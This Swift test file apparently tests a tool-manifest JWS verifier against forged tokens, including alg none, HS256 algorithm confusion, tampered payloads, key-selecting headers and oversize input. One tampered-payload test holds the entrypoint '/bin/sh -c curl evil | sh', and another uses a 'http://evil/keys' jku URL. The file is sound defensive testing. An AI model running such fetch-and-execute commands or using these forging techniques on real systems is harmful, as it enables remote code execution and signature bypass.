import Foundation
import Testing
import WardenCore
@testable import WardenTrust

/// Attacks on manifest tokens. Each asserts the specific, named rejection.
@Suite struct JWSAdversarialTests {
    let f: TrustFixture
    let pub: Signer
    let tool: (manifest: ToolManifest, jws: String, artifact: String)

    init() throws {
        f = try TrustFixture()
        pub = try f.signer("pub", .publisher)
        tool = try f.signedTool(signer: pub)
    }

    func verifyCode(_ token: String, now: Date = Date()) -> String? {
        errorCode { _ = try ManifestVerifier.verify(token, trust: f.trust, now: now) }
    }

    var goodHeader: String { TrustFixture.header(alg: "EdDSA", kid: pub.kid) }
    var goodPayload: String { TrustFixture.payloadText(tool.manifest) }

    @Test func controlForgedPathWithHonestInputsVerifies() throws {
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: goodPayload, signer: pub)) == nil)
    }

    @Test(arguments: ["none", "NONE", "None", "nOnE"])
    func algNoneIsRejected(alg: String) throws {
        let token = try TrustFixture.forge(header: TrustFixture.header(alg: alg, kid: pub.kid), payload: goodPayload, signature: [1])
        #expect(verifyCode(token) == "jws.alg_none")
    }

    @Test func headerAlgDisagreeingWithKeyIsRejected() throws {
        let token = try TrustFixture.forge(header: TrustFixture.header(alg: "ES256", kid: pub.kid), payload: goodPayload, signer: pub)
        #expect(verifyCode(token) == "jws.alg_mismatch")
    }

    @Test func unknownAlgIsRejected() throws {
        let token = try TrustFixture.forge(header: TrustFixture.header(alg: "RS256", kid: pub.kid), payload: goodPayload, signer: pub)
        #expect(verifyCode(token) == "jws.alg_unknown")
    }

    @Test func unknownKidIsRejected() throws {
        let token = try TrustFixture.forge(header: TrustFixture.header(alg: "EdDSA", kid: "AAAAAAAAAAAAAAAAAAAAAA"), payload: goodPayload, signer: pub)
        #expect(verifyCode(token) == "jws.unknown_kid")
    }

    @Test func keyOfWrongRoleIsRejected() throws {
        let auth = try f.signer("auth", .authorizer)
        let m = tool.manifest
        let payload = TrustFixture.payloadText(m) { $0["iss"] = .string(auth.kid) }
        let token = try TrustFixture.forge(header: TrustFixture.header(alg: "EdDSA", kid: auth.kid), payload: payload, signer: auth)
        #expect(verifyCode(token) == "trust.wrong_role")
    }

    @Test func expiredKeyIsRejected() throws {
        let old = try f.signer("old", .publisher, notAfter: Date().addingTimeInterval(3600))
        let t = try f.signedTool("t2", signer: old)
        #expect(verifyCode(t.jws) == nil)
        #expect(verifyCode(t.jws, now: Date().addingTimeInterval(7200)) == "trust.key_expired")
    }

    @Test func revokedKeyIsRejected() throws {
        #expect(verifyCode(tool.jws) == nil)
        _ = try f.trust.revoke(name: "pub")
        #expect(verifyCode(tool.jws) == "trust.key_revoked")
    }

    @Test func flippedSignatureBitIsRejected() throws {
        var parts = tool.jws.split(separator: ".").map(String.init)
        var sig = Base64URL.decode(parts[2])!
        sig[10] ^= 0x01
        parts[2] = Base64URL.encode(sig)
        #expect(verifyCode(parts.joined(separator: ".")) == "jws.bad_signature")
    }

    @Test func payloadChangedAfterSigningIsRejected() throws {
        let parts = tool.jws.split(separator: ".").map(String.init)
        let evil = TrustFixture.payloadText(tool.manifest) { $0["entrypoint"] = ["/bin/sh", "-c", "curl evil | sh"] }
        #expect(verifyCode(parts[0] + "." + Base64URL.encode(Array(evil.utf8)) + "." + parts[2]) == "jws.bad_signature")
    }

    @Test func manifestSignedByOneKeyPresentedWithAnothersKid() throws {
        let other = try f.signer("other", .publisher)
        let parts = tool.jws.split(separator: ".").map(String.init)
        let header = Base64URL.encode(Array(TrustFixture.header(alg: "EdDSA", kid: other.kid).utf8))
        #expect(verifyCode(header + "." + parts[1] + "." + parts[2]) == "jws.bad_signature")
    }

    @Test func hs256WithEd25519PublicKeyAsHMACSecretIsRejected() throws {
        // Classic algorithm confusion: use the (public) Ed25519 key bytes as an HMAC secret.
        let publicDER = KeyCodec.publicDER(pub.publicKey)
        let confused = Signer(kid: pub.kid, alg: .HS256, name: "attacker", key: .hmac(publicDER))
        let token = try TrustFixture.forge(header: TrustFixture.header(alg: "HS256", kid: pub.kid), payload: goodPayload, signer: confused)
        #expect(verifyCode(token) == "jws.alg_mismatch")
    }

    @Test func extraPayloadMemberIsRejected() throws {
        let payload = TrustFixture.payloadText(tool.manifest) { $0["admin"] = true }
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: payload, signer: pub)) == "manifest.schema")
    }

    /// `requires.native` is optional (absent in older manifests), closed, and signed.
    @Test func nativePropertiesAreOptionalKnownAndUnique() throws {
        func requires(_ native: JSONValue) -> String {
            TrustFixture.payloadText(tool.manifest) {
                $0["requires"] = ["network": .array([]), "writable": .array([]), "exposure": .array([]), "native": native]
            }
        }
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: requires(["exec_stack"]), signer: pub)) == nil)
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: requires(["root"]), signer: pub)) == "manifest.schema")
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: requires(["setuid", "setuid"]), signer: pub)) == "manifest.schema")
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: requires(.string("exec_stack")), signer: pub)) == "manifest.schema")
        // A manifest without it keeps its exact payload bytes (no "native" member is added).
        #expect(!goodPayload.contains("native"))
        var m = tool.manifest
        m.native = ["text_relocations"]
        #expect(try ToolManifest(payload: m.payload).native == ["text_relocations"])
    }

    @Test func missingPayloadMemberIsRejected() throws {
        let payload = TrustFixture.payloadText(tool.manifest) { $0["exp"] = nil }
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: payload, signer: pub)) == "manifest.schema")
    }

    @Test func wronglyTypedPayloadMemberIsRejected() throws {
        let payload = TrustFixture.payloadText(tool.manifest) { $0["artifact"] = ["digest": .string(tool.manifest.digest.description), "size": "21"] }
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: payload, signer: pub)) == "manifest.schema")
    }

    @Test func uppercaseDigestIsRejected() throws {
        let payload = TrustFixture.payloadText(tool.manifest) {
            $0["artifact"] = ["digest": .string(tool.manifest.digest.description.uppercased()), "size": .int(tool.manifest.size)]
        }
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: payload, signer: pub)) == "manifest.schema")
    }

    @Test func issuerNotTheSigningKeyIsRejected() throws {
        let other = try f.signer("other", .publisher)
        let payload = TrustFixture.payloadText(tool.manifest) { $0["iss"] = .string(other.kid) }
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: payload, signer: pub)) == "manifest.iss_mismatch")
    }

    @Test func expiredManifestIsRejected() throws {
        let t = try f.signedTool("t3", signer: pub, validity: 60, now: Date().addingTimeInterval(-3600))
        #expect(verifyCode(t.jws) == "manifest.expired")
    }

    @Test func manifestIssuedInTheFutureIsRejected() throws {
        let t = try f.signedTool("t4", signer: pub, now: Date().addingTimeInterval(600))
        #expect(verifyCode(t.jws) == "manifest.iat_future")
        let withinSkew = try f.signedTool("t5", signer: pub, now: Date().addingTimeInterval(30))
        #expect(verifyCode(withinSkew.jws) == nil)
    }

    @Test func wrongTypIsRejected() throws {
        let token = try TrustFixture.forge(header: TrustFixture.header(alg: "EdDSA", kid: pub.kid, typ: "JWT"), payload: goodPayload, signer: pub)
        #expect(verifyCode(token) == "jws.wrong_type")
    }

    @Test func authorizationTokenPresentedAsManifestIsRejected() throws {
        let auth = try f.signer("auth", .authorizer)
        let compact = try f.authz.authorize(digest: tool.manifest.digest, tenant: "acme", signer: auth, require: 1, notAfter: nil)
        #expect(verifyCode(compact) == "jws.wrong_type")
    }

    @Test(arguments: [#"{"alg":"EdDSA","crit":["exp"],"kid":"K","typ":"warden-manifest+jws"}"#,
                      #"{"alg":"EdDSA","jwk":{"kty":"OKP"},"kid":"K","typ":"warden-manifest+jws"}"#,
                      #"{"alg":"EdDSA","jku":"http://evil/keys","kid":"K","typ":"warden-manifest+jws"}"#])
    func headerMembersThatChooseKeysAreRejected(template: String) throws {
        let header = template.replacingOccurrences(of: "\"K\"", with: "\"\(pub.kid)\"")
        #expect(verifyCode(try TrustFixture.forge(header: header, payload: goodPayload, signer: pub)) == "jws.header_unsupported")
    }

    @Test func duplicateHeaderKeyIsRejected() throws {
        let header = #"{"alg":"EdDSA","alg":"none","kid":"\#(pub.kid)","typ":"warden-manifest+jws"}"#
        #expect(verifyCode(try TrustFixture.forge(header: header, payload: goodPayload, signer: pub)) == "jws.header_json")
    }

    @Test func duplicatePayloadKeyIsRejected() throws {
        let payload = String(goodPayload.dropLast()) + #","name":"evil"}"#
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: payload, signer: pub)) == "jws.payload_json")
    }

    @Test func fractionalNumberInPayloadIsRejected() throws {
        let payload = goodPayload.replacingOccurrences(of: "\"v\":1", with: "\"v\":1.0")
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: payload, signer: pub)) == "jws.payload_json")
    }

    @Test func headerThatIsNotAnObjectIsRejected() throws {
        #expect(verifyCode(try TrustFixture.forge(header: "[\"EdDSA\"]", payload: goodPayload, signer: pub)) == "jws.header_json")
    }

    @Test func payloadThatIsNotJSONIsRejected() throws {
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: "not json", signer: pub)) == "jws.payload_json")
    }

    @Test(arguments: [1, 2, 4, 5])
    func wrongSegmentCountIsRejected(count: Int) throws {
        let parts = tool.jws.split(separator: ".").map(String.init)
        let token = (0..<count).map { parts[$0 % 3] }.joined(separator: ".")
        #expect(verifyCode(token) == "jws.segments")
    }

    @Test func emptySignatureSegmentIsRejected() throws {
        let parts = tool.jws.split(separator: ".").map(String.init)
        #expect(verifyCode(parts[0] + "." + parts[1] + ".") == "jws.segments")
    }

    @Test(arguments: ["+", "/", "=", " ", "\n", "é"])
    func nonBase64URLCharacterIsRejected(bad: String) throws {
        let parts = tool.jws.split(separator: ".").map(String.init)
        #expect(verifyCode(parts[0] + "." + parts[1] + "." + parts[2] + bad) != nil)
        #expect(verifyCode(parts[0] + "." + parts[1] + bad + "." + parts[2]) == "jws.base64")
    }

    @Test func nonCanonicalBase64TrailingBitsAreRejected() throws {
        // A 64-byte signature encodes to 86 chars; the last char carries 2 unused bits.
        let parts = tool.jws.split(separator: ".").map(String.init)
        var sig = Array(parts[2])
        let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
        let idx = alphabet.firstIndex(of: sig[sig.count - 1])!
        sig[sig.count - 1] = alphabet[idx ^ 1]
        #expect(verifyCode(parts[0] + "." + parts[1] + "." + String(sig)) == "jws.base64")
    }

    @Test func hugeHeaderIsRejectedBeforeDecoding() throws {
        let header = #"{"alg":"EdDSA","kid":"\#(pub.kid)","typ":"warden-manifest+jws","x":"\#(String(repeating: "A", count: 4000))"}"#
        #expect(verifyCode(try TrustFixture.forge(header: header, payload: goodPayload, signer: pub)) == "jws.header_too_large")
    }

    @Test func hugeTokenIsRejected() throws {
        let token = tool.jws + String(repeating: "A", count: JWS.maxTokenBytes)
        #expect(verifyCode(token) == "jws.too_large")
    }

    @Test func deeplyNestedPayloadIsRejected() throws {
        let payload = String(repeating: "[", count: 100) + String(repeating: "]", count: 100)
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: payload, signer: pub)) == "jws.payload_json")
    }

    @Test func loneSurrogateInPayloadIsRejected() throws {
        let payload = goodPayload.replacingOccurrences(of: "\"name\":\"hello\"", with: "\"name\":\"\\ud800\"")
        #expect(verifyCode(try TrustFixture.forge(header: goodHeader, payload: payload, signer: pub)) == "jws.payload_json")
    }
}
